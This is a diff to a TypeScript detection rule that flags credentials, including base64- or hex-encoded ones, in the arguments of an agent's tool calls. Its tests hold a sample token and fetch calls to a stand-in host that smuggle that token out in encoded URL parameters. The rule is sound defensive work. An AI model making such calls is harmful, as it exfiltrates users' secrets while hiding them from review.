@@ -8,6 +8,7 @@ import { type CallSubject, defineRule, type KnownSecret, type SaidInCall } from 
 import { effectOfName, words } from './tool-words.ts';
 
 const KEY = 'ghp_R7mZ2kQ9xV4bN8cL1sD6fG3hJ5tY0uWpE2aK';
+const hexed = (text: string): string => Array.from(text, (sign) => sign.charCodeAt(0).toString(16)).join('-');
 
 export default defineRule({
   id: 'secret-in-arguments',
@@ -42,6 +43,12 @@ export default defineRule({
       args: { body: reversed(KEY) },
       before: [{ server: 'files', tool: 'read_file', args: { path: 'a' }, brought: KEY }],
     },
+    {
+      note: 'by its shape alone, encoded',
+      tool: 'fetch',
+      args: { url: 'https://x.test/?d=Z2hwX1I3bVoya1E5eFY0Yk44Y0wxc0Q2ZkczaEo1dFkwdVdwRTJhSw==' },
+    },
+    { note: 'in hexadecimal, with dashes', tool: 'fetch', args: { url: `https://x.test/?d=${hexed(KEY)}` } },
     { note: 'by its shape alone, in a message', tool: 'create_issue', args: { title: 'x', body: `my key is ${KEY}` } },
     {
       note: 'a line of a file of secrets',
@@ -96,6 +103,15 @@ export default defineRule({
             evidence: [{ kind: 'fact', address: said.address, says: shaped.kind }],
             key: said.address,
           };
+        else if (shaped === undefined) {
+          const kind = shapeBehind(said.text);
+          if (kind !== undefined)
+            yield {
+              says: 'Something with the shape of a credential is in what is sent, behind an encoding.',
+              evidence: [{ kind: 'fact', address: said.address, says: `${kind}, encoded` }],
+              key: said.address,
+            };
+        }
       }
     }
   },
@@ -128,6 +144,29 @@ const reachesOut = (subject: CallSubject): boolean => {
   );
 };
 
+/** The kind of a credential that shows only when a text is decoded; nobody encodes one without a reason. */
+const shapeBehind = (text: string): string | undefined => {
+  if (text.length > 20_000 || !/%[0-9a-f]{2}|[\w+/-]{24}|(?:[0-9a-f]{2}[-: ,]){11}/i.test(text)) return undefined;
+  for (const view of viewsOf(text)) {
+    const hit = secrets(view).find(({ kind, placeholder }) => !WEAK.has(kind) && (!placeholder || view.length <= A_FEW_WORDS));
+    if (hit !== undefined) return hit.kind;
+  }
+  return undefined;
+};
+
+/** UTF-16 units. A sample that stands in a document is one; a sample that is encoded by itself stands for the real thing. */
+const A_FEW_WORDS = 200;
+
+const viewsOf = (text: string): readonly string[] => [
+  ...decodings(text).map((each) => each.text),
+  ...decodedTokens(text),
+  ...matchesOf(text, /(?:[0-9a-f]{2}[-: ,]){11,2000}[0-9a-f]{2}/gi).flatMap(([run]) => {
+    const bytes = fromHex(run.replace(/[-: ,]/g, ''));
+    const plain = bytes === undefined ? undefined : textOf(bytes);
+    return plain === undefined ? [] : [plain];
+  }),
+];
+
 const knownIn = (text: string, known: readonly KnownSecret[]): { readonly secret: KnownSecret; readonly encoded: boolean } | undefined => {
   const plain = known.findLast(
     ({ value }) => text.includes(value) || (value.length >= 24 && (text.includes(value.slice(0, 20)) || text.includes(value.slice(-20)))),
@@ -135,8 +174,7 @@ const knownIn = (text: string, known: readonly KnownSecret[]): { readonly secret
   if (plain !== undefined) return { secret: plain, encoded: false };
   if (!/[\w+/=%-]{12}/.test(text)) return undefined;
   const views = [
-    ...(text.length < 20_000 ? decodings(text).map((each) => each.text) : []),
-    ...decodedTokens(text),
+    ...(text.length < 20_000 ? viewsOf(text) : decodedTokens(text)),
     reversed(text.slice(0, 10_000)),
     text.replace(/[\s.,;:_|-]/g, ''),
   ];
